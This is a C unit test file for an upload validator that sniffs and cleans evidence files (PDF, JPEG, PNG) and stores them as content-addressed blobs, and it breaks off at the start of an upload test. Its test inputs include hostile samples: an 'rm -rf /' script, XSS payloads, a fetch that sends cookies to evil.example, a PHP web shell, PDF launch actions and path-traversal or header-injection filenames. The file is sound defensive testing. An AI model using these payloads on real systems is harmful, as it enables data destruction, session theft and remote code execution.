/*
 * Unit tests: evidence files (domain/evidence.h) — the content sniffer against hostile
 * files built here, the display-name cleaner, the content-addressed blob store (dedup,
 * tampering, no temporary files left behind) and the application_files rows with their
 * audit records, on a real SQLite store in a temporary directory.
 *
 * The expectations come from the rules of issue 5 item 3 and the formats' specifications
 * (PDF: ISO 32000 header and trailer; JPEG: ITU T.81 markers; PNG: RFC 2083 chunks and
 * CRC-32), not from the code's output.
 */
#include <dirent.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cmocka.h>
#include <sodium.h>

#include "api/files.h"
#include "core/arena.h"
#include "domain/audit.h"
#include "domain/evidence.h"
#include "store/store.h"

#define MB (1024 * 1024)

/* ---- building files ---- */

struct buf {
	unsigned char *p;
	size_t n, cap;
};

static void put(struct buf *b, const void *d, size_t n)
{
	if (b->n + n > b->cap) {
		b->cap = (b->n + n) * 2 + 64;
		b->p = realloc(b->p, b->cap);
		assert_non_null(b->p);
	}
	memcpy(b->p + b->n, d, n);
	b->n += n;
}

static void puts_(struct buf *b, const char *s) { put(b, s, strlen(s)); }

static void put_be32(struct buf *b, uint32_t v)
{
	unsigned char x[4] = {(unsigned char)(v >> 24), (unsigned char)(v >> 16),
			      (unsigned char)(v >> 8), (unsigned char)v};
	put(b, x, 4);
}

/* CRC-32 (ISO 3309, as PNG uses it), written here independently of the code under test. */
static uint32_t crc32_ref(const unsigned char *p, size_t n)
{
	uint32_t c = 0xFFFFFFFFu;
	for (size_t i = 0; i < n; i++) {
		c ^= p[i];
		for (int k = 0; k < 8; k++)
			c = (c >> 1) ^ (0xEDB88320u & (0u - (c & 1)));
	}
	return ~c;
}

static void png_chunk(struct buf *b, const char *type, const void *data, size_t n)
{
	put_be32(b, (uint32_t)n);
	size_t at = b->n;
	put(b, type, 4);
	if (n)
		put(b, data, n);
	put_be32(b, crc32_ref(b->p + at, n + 4));
}

/* A real 1x1 RGB PNG (a green pixel): IDAT is a zlib stored block of 00 00 FF 00. */
static struct buf png_with(uint32_t w, uint32_t h, int with_iend)
{
	struct buf b = {0};
	put(&b, "\x89PNG\r\n\x1a\n", 8);
	unsigned char ihdr[13] = {0};
	ihdr[0] = (unsigned char)(w >> 24), ihdr[1] = (unsigned char)(w >> 16);
	ihdr[2] = (unsigned char)(w >> 8), ihdr[3] = (unsigned char)w;
	ihdr[4] = (unsigned char)(h >> 24), ihdr[5] = (unsigned char)(h >> 16);
	ihdr[6] = (unsigned char)(h >> 8), ihdr[7] = (unsigned char)h;
	ihdr[8] = 8;  /* bit depth */
	ihdr[9] = 2;  /* truecolour */
	png_chunk(&b, "IHDR", ihdr, 13);
	static const unsigned char idat[] = {0x78, 0x01, 0x01, 0x04, 0x00, 0xFB, 0xFF, 0x00,
					     0x00, 0xFF, 0x00, 0x02, 0x02, 0x01, 0x00};
	png_chunk(&b, "IDAT", idat, sizeof idat);
	if (with_iend)
		png_chunk(&b, "IEND", NULL, 0);
	return b;
}

static struct buf png_ok(void) { return png_with(1, 1, 1); }

/*
 * A real baseline JPEG: 8x8, one grey component, one quantisation table of ones, one DC
 * and one AC Huffman table with a single 1-bit code each (DC category 0, AC EOB), one
 * block coded as "0" "0" padded with ones (0x3F).
 */
static struct buf jpeg_ok(void)
{
	struct buf b = {0};
	static const unsigned char head[] = {
		0xFF, 0xD8,                                           /* SOI */
		0xFF, 0xE0, 0x00, 0x10, 'J', 'F', 'I', 'F', 0x00, 0x01, 0x01, 0x00, 0x00, 0x01,
		0x00, 0x01, 0x00, 0x00,                               /* APP0 JFIF */
	};
	put(&b, head, sizeof head);
	unsigned char dqt[5 + 64] = {0xFF, 0xDB, 0x00, 0x43, 0x00};
	memset(dqt + 5, 1, 64);
	put(&b, dqt, sizeof dqt);
	static const unsigned char rest[] = {
		0xFF, 0xC0, 0x00, 0x0B, 0x08, 0x00, 0x08, 0x00, 0x08, 0x01, 0x01, 0x11, 0x00, /* SOF0 */
		0xFF, 0xC4, 0x00, 0x14, 0x00, 0x01, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0,
		0x00,                                                  /* DHT DC0: one code -> 0 */
		0xFF, 0xC4, 0x00, 0x14, 0x10, 0x01, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0,
		0x00,                                                  /* DHT AC0: one code -> EOB */
		0xFF, 0xDA, 0x00, 0x08, 0x01, 0x01, 0x00, 0x00, 0x3F, 0x00, /* SOS */
		0x3F,                                                  /* the block */
		0xFF, 0xD9,                                            /* EOI */
	};
	put(&b, rest, sizeof rest);
	return b;
}

static const char PDF_BODY[] =
	"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n"
	"1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
	"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
	"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\n"
	"trailer<</Root 1 0 R/Size 4>>\n";

static struct buf pdf_ok(void)
{
	struct buf b = {0};
	puts_(&b, PDF_BODY);
	puts_(&b, "%%EOF\n");
	return b;
}

/* A valid PDF of exactly size bytes (a comment pads it); tag makes the content unique. */
static struct buf pdf_sized(size_t size, int tag)
{
	struct buf b = {0};
	char head[64];
	snprintf(head, sizeof head, "%%PDF-1.7\n%% file %d\n%%", tag);
	puts_(&b, head);
	size_t tail = strlen(PDF_BODY) - 9 + strlen("\n%%EOF\n");
	assert_true(size > b.n + tail);
	while (b.n < size - tail)
		put(&b, "x", 1);
	puts_(&b, "\n");
	puts_(&b, PDF_BODY + 9);
	puts_(&b, "%%EOF\n");
	assert_int_equal(b.n, size);
	return b;
}

static const char *check(const void *d, size_t n, enum evidence_type want)
{
	static struct evidence_refusal why;
	enum evidence_type t = evidence_check(d, n, 0, EVIDENCE_FILE_MAX, EVIDENCE_APPLICATION_MAX,
					      &why);
	if (t != want)
		fail_msg("type %d, want %d (%s: %s)", t, want, why.code, why.en);
	if (t == EVIDENCE_NONE) {
		assert_true(why.zh[0] && why.en[0]); /* a reason in both languages */
		return why.code;
	}
	return "";
}

static void refused(const void *d, size_t n, const char *code)
{
	assert_string_equal(check(d, n, EVIDENCE_NONE), code);
}

/* ---- the sniffer: valid files ---- */

static void valid_files_are_accepted(void **state)
{
	(void)state;
	struct buf p = pdf_ok(), j = jpeg_ok(), g = png_ok();
	check(p.p, p.n, EVIDENCE_PDF);
	check(j.p, j.n, EVIDENCE_JPEG);
	check(g.p, g.n, EVIDENCE_PNG);
	/* PDF 2.0, incremental updates (two %%EOF), trailing CR LF */
	struct buf p2 = {0};
	puts_(&p2, "%PDF-2.0\n1 0 obj<<>>endobj\n%%EOF\n2 0 obj<<>>endobj\n%%EOF\r\n");
	check(p2.p, p2.n, EVIDENCE_PDF);
	assert_string_equal(evidence_type_mime(EVIDENCE_PDF), "application/pdf");
	assert_int_equal(evidence_type_parse("image/png"), EVIDENCE_PNG);
	assert_int_equal(evidence_type_parse("text/html"), EVIDENCE_NONE);
	free(p.p), free(j.p), free(g.p), free(p2.p);
}

/* ---- the sniffer: hostile files ---- */

static void executables_are_refused_whatever_the_name(void **state)
{
	(void)state;
	unsigned char mz[256] = "MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff";
	memcpy(mz + 128, "PE\0\0", 4);
	refused(mz, sizeof mz, "executable"); /* "invoice.pdf" */
	unsigned char elf[128] = "\x7f" "ELF\x02\x01\x01";
	refused(elf, sizeof elf, "executable"); /* "photo.png" */
	unsigned char macho[64] = {0xCF, 0xFA, 0xED, 0xFE, 7, 0, 0, 1};
	refused(macho, sizeof macho, "executable");
	const char sh[] = "#!/bin/sh\nrm -rf / --no-preserve-root\n";
	refused(sh, strlen(sh), "executable");
}

static void markup_is_refused(void **state)
{
	(void)state;
	const char html[] = "<!DOCTYPE html><html><body><script>alert(1)</script></body></html>";
	refused(html, strlen(html), "html"); /* named diploma.pdf */
	const char svg[] = "<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" "
			   "onload=\"alert(1)\"><rect width=\"1\" height=\"1\"/></svg>";
	refused(svg, strlen(svg), "html"); /* named photo.png */
	const char bom_svg[] = "\xef\xbb\xbf  \n<svg onload=alert(1)>";
	refused(bom_svg, strlen(bom_svg), "html");
	const unsigned char utf16[] = {0xFF, 0xFE, '<', 0, 'h', 0, 't', 0, 'm', 0, 'l', 0};
	refused(utf16, sizeof utf16, "html");
	/* markup after a few harmless bytes: browsers sniff the first bytes */
	const char late[] = "hello world\n\n<ScRiPt>alert(1)</script>";
	refused(late, strlen(late), "html");
	/* a JPEG header, then HTML (a polyglot a sniffing browser would render) */
	struct buf jh = {0};
	put(&jh, "\xff\xd8\xff\xe0", 4);
	puts_(&jh, "<html><script>alert(document.cookie)</script></html>");
	refused(jh.p, jh.n, "html");
	/* a PDF whose first bytes hold HTML */
	struct buf ph = {0};
	puts_(&ph, "%PDF-1.4\n<html><body>hi</body></html>\n");
	puts_(&ph, PDF_BODY + 9);
	puts_(&ph, "%%EOF\n");
	refused(ph.p, ph.n, "html");
	free(jh.p), free(ph.p);
}

static void other_formats_are_named(void **state)
{
	(void)state;
	const char js[] = "var x = document.cookie; fetch('https://evil.example/?' + x);\n";
	refused(js, strlen(js), "text"); /* app.js named scan.pdf */
	const char csv[] = "name,id\nzhang,350582199001011234\n";
	refused(csv, strlen(csv), "text");
	unsigned char docx[128] = "PK\x03\x04\x14\0\x06\0\x08\0\0\0!\0";
	memcpy(docx + 30, "[Content_Types].xml", 19);
	refused(docx, sizeof docx, "archive"); /* cv.docx */
	unsigned char gz[32] = {0x1F, 0x8B, 8, 0};
	refused(gz, sizeof gz, "archive");
	unsigned char ole[64] = {0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1};
	refused(ole, sizeof ole, "office");
	const char gif[] = "GIF89a\x01\0\x01\0\x80\0\0\xff\xff\xff\0\0\0!\xf9\x04";
	refused(gif, sizeof gif - 1, "image_other");
	unsigned char noise[64];
	for (int i = 0; i < 64; i++)
		noise[i] = (unsigned char)(i * 37 + 1) | 0x80;
	noise[0] = 0x01;
	refused(noise, sizeof noise, "unknown");
}

static void size_limits(void **state)
{
	(void)state;
	struct evidence_refusal why;
	refused("", 0, "empty");
	assert_int_equal(evidence_check(NULL, 0, 0, 10, 50, &why), EVIDENCE_NONE);
	/* 10 MB + 1: the limit is checked before anything is parsed */
	size_t big = (size_t)EVIDENCE_FILE_MAX + 1;
	unsigned char *b = calloc(1, big);
	memcpy(b, "%PDF-1.4\n", 9);
	memcpy(b + big - 6, "%%EOF\n", 6);
	refused(b, big, "too_large");
	/* exactly 10 MB passes the size rule */
	struct buf ten = pdf_sized((size_t)EVIDENCE_FILE_MAX, 1);
	check(ten.p, ten.n, EVIDENCE_PDF);
	/* the per-application total, given by the caller: 45 MB + 5 MB fits, + 1 byte more not */
	assert_int_equal(evidence_check(ten.p, 5 * MB, 45LL * MB, EVIDENCE_FILE_MAX,
					EVIDENCE_APPLICATION_MAX, &why),
			 EVIDENCE_NONE); /* 5 MB of a 10 MB PDF has no %%EOF: but the rule is size */
	assert_string_equal(why.code, "pdf_truncated");
	struct buf p = pdf_ok();
	assert_int_equal(evidence_check(p.p, p.n, 50LL * MB - (int64_t)p.n, EVIDENCE_FILE_MAX,
					EVIDENCE_APPLICATION_MAX, &why),
			 EVIDENCE_PDF);
	assert_int_equal(evidence_check(p.p, p.n, 50LL * MB - (int64_t)p.n + 1, EVIDENCE_FILE_MAX,
					EVIDENCE_APPLICATION_MAX, &why),
			 EVIDENCE_NONE);
	assert_string_equal(why.code, "application_full");
	assert_non_null(strstr(why.en, "52428800")); /* the numbers are in the message */
	assert_non_null(strstr(why.zh, "50 MB"));
	/* limits are parameters */
	assert_int_equal(evidence_check(p.p, p.n, 0, (int64_t)p.n - 1, 1000, &why), EVIDENCE_NONE);
	assert_string_equal(why.code, "too_large");
	free(b), free(ten.p), free(p.p);
}

static void damaged_and_disguised_pdfs(void **state)
{
	(void)state;
	struct buf p = pdf_ok();
	refused(p.p, p.n - 7, "pdf_truncated"); /* cut before %%EOF */
	refused(p.p, p.n / 2, "pdf_truncated");
	/* %%EOF too far from the end: more than 1024 bytes follow it */
	struct buf far = pdf_ok();
	for (int i = 0; i < 1100; i++)
		puts_(&far, " ");
	refused(far.p, far.n, "pdf_truncated");
	/* junk before the header (the header must be at offset 0) */
	struct buf junk = {0};
	puts_(&junk, "JUNKJUNK");
	put(&junk, p.p, p.n);
	refused(junk.p, junk.n, "pdf_offset");
	/* a zip appended after %%EOF: a PDF/ZIP polyglot */
	struct buf zip = pdf_ok();
	put(&zip, "PK\x03\x04\x14\0\0\0", 8);
	refused(zip.p, zip.n, "pdf_trailing");
	/* "%PDF-3." and "%PDF-1.x" are not versions */
	const char v3[] = "%PDF-3.0\n%%EOF\n", vx[] = "%PDF-1.x\n%%EOF\n";
	refused(v3, strlen(v3), "pdf_version");
	refused(vx, strlen(vx), "pdf_version");
	/* active content, also when the name is spelt with #xx escapes */
	const char *active[] = {"/OpenAction<</S/JavaScript/JS(app.alert(1))>>",
				"/OpenAction<</S/J#61vaScript/J#53 (x)>>",
				"/AA<</O<</S/Launch/F(cmd.exe)>>>>",
				"/Names<</EmbeddedFiles 9 0 R>>", "/RichMedia 4 0 R"};
	for (size_t i = 0; i < sizeof active / sizeof active[0]; i++) {
		struct buf a = {0};
		puts_(&a, "%PDF-1.6\n1 0 obj<</Type/Catalog");
		puts_(&a, active[i]);
		puts_(&a, ">>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n");
		refused(a.p, a.n, "pdf_active_content");
		free(a.p);
	}
	/* a name merely starting like one is fine: /JSON, /JavaScriptX */
	struct buf ok = {0};
	puts_(&ok, "%PDF-1.6\n1 0 obj<</JSON 1/JavaScriptX 2>>endobj\n%%EOF\n");
	check(ok.p, ok.n, EVIDENCE_PDF);
	free(p.p), free(far.p), free(junk.p), free(zip.p), free(ok.p);
}

static void damaged_and_disguised_jpegs(void **state)
{
	(void)state;
	struct buf j = jpeg_ok();
	refused(j.p, j.n - 2, "jpeg_no_eoi"); /* EOI cut off */
	refused(j.p, j.n - 1, "jpeg_no_eoi");
	refused(j.p, 40, "jpeg_no_eoi");      /* cut inside a segment */
	/* data after EOI (a JPEG/ZIP polyglot) */
	struct buf t = jpeg_ok();
	put(&t, "PK\x03\x04", 4);
	refused(t.p, t.n, "jpeg_bad");
	/* the JPEG magic followed by garbage that is not markup */
	unsigned char g[64] = {0xFF, 0xD8, 0xFF, 0x00, 0x12, 0x34};
	refused(g, sizeof g, "jpeg_bad");
	/* SOI then EOI at once: no frame, no scan */
	const unsigned char empty[] = {0xFF, 0xD8, 0xFF, 0xD9};
	refused(empty, sizeof empty, "jpeg_bad");
	/* a segment length past the end of the file */
	struct buf l = jpeg_ok();
	l.p[4] = 0x7F; /* APP0 length 0x7F10 */
	refused(l.p, l.n, "jpeg_no_eoi");
	/* a frame of 65535 x 65535 pixels (a decompression bomb) */
	struct buf bomb = jpeg_ok();
	size_t sof = 0;
	for (size_t i = 2; i + 1 < bomb.n; i++)
		if (bomb.p[i] == 0xFF && bomb.p[i + 1] == 0xC0) {
			sof = i;
			break;
		}
	assert_true(sof > 0);
	memset(bomb.p + sof + 5, 0xFF, 4);
	refused(bomb.p, bomb.n, "jpeg_bad");
	free(j.p), free(t.p), free(l.p), free(bomb.p);
}

static void damaged_and_disguised_pngs(void **state)
{
	(void)state;
	struct buf crc = png_ok();
	crc.p[8 + 8 + 5] ^= 0x01; /* a bit of IHDR's data (the height) flipped */
	refused(crc.p, crc.n, "png_bad_crc");
	struct buf noiend = png_with(1, 1, 0);
	refused(noiend.p, noiend.n, "png_no_iend");
	struct buf sig = png_ok();
	refused(sig.p, 8, "png_no_iend"); /* the signature alone */
	struct buf after = png_ok();
	puts_(&after, "<?php system($_GET['c']); ?>");
	refused(after.p, after.n, "png_bad");
	struct buf bomb = png_with(100000, 100000, 1);
	refused(bomb.p, bomb.n, "png_bad");
	/* IHDR not first */
	struct buf order = {0};
	put(&order, "\x89PNG\r\n\x1a\n", 8);
	png_chunk(&order, "tEXt", "Comment\0hi", 10);
	struct buf rest = png_ok();
	put(&order, rest.p + 8, rest.n - 8);
	refused(order.p, order.n, "png_bad");
	/* a chunk length past the end */
	struct buf len = png_ok();
	len.p[8 + 12 + 13 + 3] = 0xF0; /* IDAT's length */
	refused(len.p, len.n, "png_bad");
	free(crc.p), free(noiend.p), free(sig.p), free(after.p), free(bomb.p), free(order.p),
		free(rest.p), free(len.p);
}

/* ---- names ---- */

static const char *clean(const char *raw, size_t n, enum evidence_type t, char *out)
{
	static struct evidence_refusal why;
	if (evidence_clean_name(raw, n, t, out, EVIDENCE_NAME_MAX + 1, &why) != 0) {
		assert_true(why.zh[0] && why.en[0]);
		return why.code;
	}
	return NULL;
}

#define NAME_OK(raw, type, want)                                                        \
	do {                                                                            \
		char out_[EVIDENCE_NAME_MAX + 1];                                       \
		const char *c_ = clean(raw, sizeof(raw) - 1, type, out_);               \
		if (c_)                                                                 \
			fail_msg("%s refused: %s", raw, c_);                            \
		assert_string_equal(out_, want);                                        \
	} while (0)
#define NAME_BAD(raw, type, code)                                                       \
	do {                                                                            \
		char out_[EVIDENCE_NAME_MAX + 1];                                       \
		const char *c_ = clean(raw, sizeof(raw) - 1, type, out_);               \
		assert_non_null(c_);                                                    \
		assert_string_equal(c_, code);                                          \
	} while (0)

static void names_are_cleaned(void **state)
{
	(void)state;
	NAME_OK("学位证书.pdf", EVIDENCE_PDF, "学位证书.pdf");
	NAME_OK("Scan 2026.PDF", EVIDENCE_PDF, "Scan 2026.PDF");
	NAME_OK("photo.JPEG", EVIDENCE_JPEG, "photo.JPEG");
	NAME_OK("../../etc/passwd", EVIDENCE_PDF, "passwd.pdf");
	NAME_OK("..\\..\\win.ini", EVIDENCE_PNG, "win.ini.png");
	NAME_OK("/etc/shadow", EVIDENCE_PDF, "shadow.pdf");
	NAME_OK("C:\\Users\\x\\degree.pdf", EVIDENCE_PDF, "degree.pdf");
	NAME_OK("  a.pdf  ", EVIDENCE_PDF, "a.pdf");
	NAME_OK("a.pdf.", EVIDENCE_PDF, "a.pdf");
	/* the extension follows the content: an .exe name holding a PNG is not an .exe */
	NAME_OK("scan.exe", EVIDENCE_PNG, "scan.exe.png");
	NAME_OK("diploma.pdf", EVIDENCE_JPEG, "diploma.pdf.jpg");
	NAME_OK(".pdf", EVIDENCE_PDF, ".pdf.pdf"); /* a leading dot starts no extension */
	char out[EVIDENCE_NAME_MAX + 1];
	assert_null(clean(NULL, 0, EVIDENCE_PNG, out));
	assert_string_equal(out, "file.png");
	assert_null(clean("", 0, EVIDENCE_PDF, out));
	assert_string_equal(out, "file.pdf");
}

static void hostile_names_are_refused(void **state)
{
	(void)state;
	NAME_BAD("a.pdf\0.exe", EVIDENCE_PDF, "name_nul");
	NAME_BAD("photo\xe2\x80\xaegpj.exe", EVIDENCE_JPEG, "name_bidi"); /* U+202E */
	NAME_BAD("x\xe2\x81\xa6y.pdf", EVIDENCE_PDF, "name_bidi");        /* U+2066 */
	NAME_BAD("\xff\xfe.pdf", EVIDENCE_PDF, "name_utf8");
	NAME_BAD("\xc0\xaf..\xc0\xafpasswd", EVIDENCE_PDF, "name_utf8"); /* overlong "/" */
	NAME_BAD("\xed\xa0\x80.pdf", EVIDENCE_PDF, "name_utf8");        /* a surrogate */
	NAME_BAD("a\xe4\xb8.pdf", EVIDENCE_PDF, "name_utf8");           /* truncated */
	NAME_BAD("\x1b[31mred.pdf", EVIDENCE_PDF, "name_control");
	NAME_BAD("a\r\nSet-Cookie: x.pdf", EVIDENCE_PDF, "name_control");
	NAME_BAD("a\xc2\x85.pdf", EVIDENCE_PDF, "name_control"); /* U+0085, a C1 control */
	NAME_BAD("..", EVIDENCE_PDF, "name_traversal");
	NAME_BAD("../..", EVIDENCE_PDF, "name_traversal");
	NAME_BAD("docs/", EVIDENCE_PDF, "name_traversal");
	char longname[400];
	memset(longname, 'a', 300);
	memcpy(longname + 300, ".pdf", 5);
	char out[EVIDENCE_NAME_MAX + 1];
	assert_string_equal(clean(longname, strlen(longname), EVIDENCE_PDF, out), "name_too_long");
	/* exactly the limit is fine; one byte more (with the extension added) is not */
	memset(longname, 'b', 251);
	memcpy(longname + 251, ".pdf", 5);
	assert_null(clean(longname, 255, EVIDENCE_PDF, out));
	assert_int_equal(strlen(out), 255);
	memset(longname, 'c', 252);
	longname[252] = '\0';
	assert_string_equal(clean(longname, 252, EVIDENCE_PDF, out), "name_too_long");
	/* a long path with a short last component is fine */
	char path[600];
	memset(path, 'd', 500);
	memcpy(path + 500, "/ok.pdf", 8);
	assert_null(clean(path, strlen(path), EVIDENCE_PDF, out));
	assert_string_equal(out, "ok.pdf");
}

/* ---- the blob store ---- */

struct fx {
	char dir[64], db[96], files[96];
	struct store *st;
	struct arena *a;
	struct actor who;
};

static int setup(void **state)
{
	struct fx *f = calloc(1, sizeof *f);
	snprintf(f->dir, sizeof f->dir, "/tmp/tp-evidence-XXXXXX");
	if (!mkdtemp(f->dir))
		return -1;
	snprintf(f->db, sizeof f->db, "%s/t.db", f->dir);
	if (evidence_default_dir(f->db, f->files, sizeof f->files) != 0)
		return -1;
	char err[256];
	if (store_open(f->db, STORE_CREATE, &f->st, err, sizeof err) != TP_OK)
		return -1;
	int applied, version;
	if (store_migrate(f->st, &applied, &version) != TP_OK)
		return -1;
	if (evidence_dir_prepare(f->files, err, sizeof err) != TP_OK)
		return -1;
	f->a = arena_new();
	f->who.user_id = 7;
	f->who.username = "zhang";
	f->who.role = ROLE_TALENT;
	f->who.ip = "192.0.2.9";
	*state = f;
	return 0;
}

static int teardown(void **state)
{
	struct fx *f = *state;
	store_close(f->st);
	arena_free(f->a);
	char cmd[200];
	snprintf(cmd, sizeof cmd, "chmod -R u+rwx '%s' && rm -rf '%s'", f->dir, f->dir);
	if (system(cmd) != 0)
		fprintf(stderr, "cannot remove %s\n", f->dir);
	free(f);
	return 0;
}

/* Counts the regular files under dir (recursively) whose name starts with prefix ("" all). */
static int count_files(const char *dir, const char *prefix)
{
	DIR *d = opendir(dir);
	if (!d)
		return 0;
	int n = 0;
	struct dirent *e;
	while ((e = readdir(d))) {
		if (strcmp(e->d_name, ".") == 0 || strcmp(e->d_name, "..") == 0)
			continue;
		char p[1200];
		snprintf(p, sizeof p, "%s/%s", dir, e->d_name);
		struct stat sb;
		if (lstat(p, &sb) != 0)
			continue;
		if (S_ISDIR(sb.st_mode))
			n += count_files(p, prefix);
		else if (strncmp(e->d_name, prefix, strlen(prefix)) == 0)
			n++;
	}
	closedir(d);
	return n;
}

static void sha_hex(const void *d, size_t n, char out[65])
{
	unsigned char h[32];
	crypto_hash_sha256(h, d, n);
	for (int i = 0; i < 32; i++)
		snprintf(out + 2 * i, 3, "%02x", h[i]);
}

static void blobs_are_content_addressed_and_stored_once(void **state)
{
	struct fx *f = *state;
	struct buf p = pdf_ok();
	char h1[65], h2[65], want[65], path[1200];
	int existed = -1;
	sha_hex(p.p, p.n, want);
	assert_int_equal(evidence_store(f->files, p.p, p.n, h1, &existed), TP_OK);
	assert_string_equal(h1, want);
	assert_int_equal(existed, 0);
	/* the layout: <dir>/sha256/ab/cdef…, directories 0700, the blob read-only */
	snprintf(path, sizeof path, "%s/sha256/%.2s/%s", f->files, want, want + 2);
	struct stat sb;
	assert_int_equal(stat(path, &sb), 0);
	assert_int_equal((int)sb.st_size, (int)p.n);
	assert_int_equal(sb.st_mode & 0777, 0400);
	assert_int_equal(stat(f->files, &sb), 0);
	assert_int_equal(sb.st_mode & 0777, 0700);
	snprintf(path, sizeof path, "%s/sha256/%.2s", f->files, want);
	assert_int_equal(stat(path, &sb), 0);
	assert_int_equal(sb.st_mode & 0777, 0700);
	/* the same bytes again: not rewritten */
	assert_int_equal(evidence_store(f->files, p.p, p.n, h2, &existed), TP_OK);
	assert_string_equal(h2, h1);
	assert_int_equal(existed, 1);
	assert_int_equal(count_files(f->files, ""), 1);
	/* read back */
	void *got;
	size_t n;
	assert_int_equal(evidence_read(f->files, h1, EVIDENCE_FILE_MAX, &got, &n), TP_OK);
	assert_int_equal(n, p.n);
	assert_memory_equal(got, p.p, n);
	free(got);
	assert_int_equal(evidence_read(f->files, h1, 10, &got, &n), TP_ERR_TOO_LARGE);
	free(p.p);
}

static void reading_refuses_bad_hashes_and_tampered_blobs(void **state)
{
	struct fx *f = *state;
	void *got;
	size_t n;
	/* nothing but 64 lower-case hex digits builds a path */
	const char *bad[] = {"../../etc/passwd", "", "ABCDEF0123456789ABCDEF0123456789ABCDEF0123456789ABCDEF0123456789",
			     "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcde/",
			     "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef0"};
	for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++)
		assert_int_equal(evidence_read(f->files, bad[i], EVIDENCE_FILE_MAX, &got, &n),
				 TP_ERR_INVALID);
	assert_int_equal(evidence_read(f->files, "0123456789abcdef0123456789abcdef0123456789abcdef"
						 "0123456789abcdef", EVIDENCE_FILE_MAX, &got, &n),
			 TP_ERR_NOT_FOUND);
	struct buf g = png_ok();
	char h[65], path[1200];
	assert_int_equal(evidence_store(f->files, g.p, g.n, h, NULL), TP_OK);
	assert_int_equal(evidence_blob_path(f->files, h, path, sizeof path), 0);
	/* one byte changed behind the server's back */
	chmod(path, 0600);
	FILE *fp = fopen(path, "r+b");
	assert_non_null(fp);
	fseek(fp, 20, SEEK_SET);
	fputc('X', fp);
	fclose(fp);
	assert_int_equal(evidence_read(f->files, h, EVIDENCE_FILE_MAX, &got, &n), TP_ERR_CONFLICT);
	/* storing the same content again repairs it (the damaged blob is not "the same") */
	int existed = -1;
	assert_int_equal(evidence_store(f->files, g.p, g.n, h, &existed), TP_OK);
	assert_int_equal(existed, 0);
	assert_int_equal(evidence_read(f->files, h, EVIDENCE_FILE_MAX, &got, &n), TP_OK);
	free(got);
	/* a blob replaced by a symbolic link is not followed */
	unlink(path);
	assert_int_equal(symlink("/etc/hostname", path), 0);
	assert_int_equal(evidence_read(f->files, h, EVIDENCE_FILE_MAX, &got, &n), TP_ERR_IO);
	free(g.p);
}

static void no_temporary_files_are_left_behind(void **state)
{
	struct fx *f = *state;
	struct buf a = pdf_ok(), b = jpeg_ok(), c = png_ok();
	char h[65], path[1200];
	assert_int_equal(evidence_store(f->files, a.p, a.n, h, NULL), TP_OK);
	assert_int_equal(evidence_store(f->files, b.p, b.n, h, NULL), TP_OK);
	assert_int_equal(count_files(f->files, ".tmp-"), 0);
	assert_int_equal(count_files(f->files, ""), 2);
	/* a failure after the temporary file was written: the rename cannot replace a
	 * directory standing where the blob goes */
	sha_hex(c.p, c.n, h);
	snprintf(path, sizeof path, "%s/sha256/%.2s", f->files, h);
	mkdir(path, 0700);
	assert_int_equal(evidence_blob_path(f->files, h, path, sizeof path), 0);
	assert_int_equal(mkdir(path, 0700), 0);
	char dummy[65];
	assert_int_equal(evidence_store(f->files, c.p, c.n, dummy, NULL), TP_ERR_IO);
	assert_int_equal(count_files(f->files, ".tmp-"), 0);
	rmdir(path);
	/* a failure before: the blob's directory is a file */
	struct buf d = pdf_sized(4096, 99);
	sha_hex(d.p, d.n, h);
	snprintf(path, sizeof path, "%s/sha256/%.2s", f->files, h);
	struct stat sb;
	if (stat(path, &sb) != 0) { /* (unless another blob shares the first two digits) */
		FILE *fp = fopen(path, "w");
		assert_non_null(fp);
		fclose(fp);
		assert_int_equal(evidence_store(f->files, d.p, d.n, dummy, NULL), TP_ERR_IO);
		unlink(path);
	}
	assert_int_equal(count_files(f->files, ".tmp-"), 0);
	/* and afterwards both succeed */
	assert_int_equal(evidence_store(f->files, c.p, c.n, dummy, NULL), TP_OK);
	assert_int_equal(evidence_store(f->files, d.p, d.n, dummy, NULL), TP_OK);
	assert_int_equal(count_files(f->files, ".tmp-"), 0);
	assert_int_equal(count_files(f->files, ""), 4);
	free(a.p), free(b.p), free(c.p), free(d.p);
}

static void the_files_directory(void **state)
{
	struct fx *f = *state;
	char out[32], err[300], p[200];
	assert_int_equal(evidence_default_dir("var/tp.db", out, sizeof out), 0);
	assert_string_equal(out, "var/tp.db.files");
	assert_int_equal(evidence_default_dir("/a/very/long/path/to/the/database.db", out, 8), -1);
	snprintf(p, sizeof p, "%s/plain-file", f->dir);
	FILE *fp = fopen(p, "w");
	fclose(fp);
	assert_int_equal(evidence_dir_prepare(p, err, sizeof err), TP_ERR_IO);
	assert_non_null(strstr(err, "files directory"));
	snprintf(p, sizeof p, "%s/no/such/parent", f->dir);
	assert_int_equal(evidence_dir_prepare(p, err, sizeof err), TP_ERR_IO);
	snprintf(p, sizeof p, "%s/new", f->dir);
	assert_int_equal(evidence_dir_prepare(p, err, sizeof err), TP_OK);
	struct stat sb;
	assert_int_equal(stat(p, &sb), 0);
	assert_int_equal(sb.st_mode & 0777, 0700);
	assert_int_equal(evidence_dir_prepare(p, err, sizeof err), TP_OK); /* again: fine */
}

/* ---- rows, audit ---- */

static int64_t audit_count(struct fx *f, const char *action, const char *result)
{
	struct audit_query q = {.limit = 500, .action = action, .result = result};
	struct audit_page pg;
	assert_int_equal(audit_list(f->st, &q, f->a, &pg), TP_OK);
	return pg.total;
}

static void upload_list_download_delete(void **state)
{
	struct fx *f = *state;
	struct app_file row, again, other;
	struct evidence_refusal why;
	int existed;
	struct buf p = pdf_ok(), g = png_ok();
	const char nm[] = "../../学位证书.pdf";
